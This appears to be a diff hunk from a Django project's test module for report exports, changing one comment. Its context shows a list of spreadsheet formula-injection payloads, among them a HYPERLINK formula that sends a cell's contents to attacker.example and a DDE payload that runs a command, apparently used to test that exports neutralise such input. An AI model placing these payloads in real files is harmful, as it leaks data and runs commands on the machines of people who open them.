@@ -32,7 +32,7 @@ from tracker.models import Area, GeneratedReport, Plan, RadioStation, RadioWork,
 from tracker.registers import smartphones
 from tracker.reports import data, services
 
-pytestmark = [pytest.mark.django_db, pytest.mark.xdist_group(__name__)]  # one demo load (tests/conftest.py)
+pytestmark = [pytest.mark.django_db, pytest.mark.xdist_group(__name__)]  # one demo load: see the Makefile
 D = datetime.date
 PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&B2,"Xem")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
 # Fields whose text the code reads as a code, not as something a user typed.
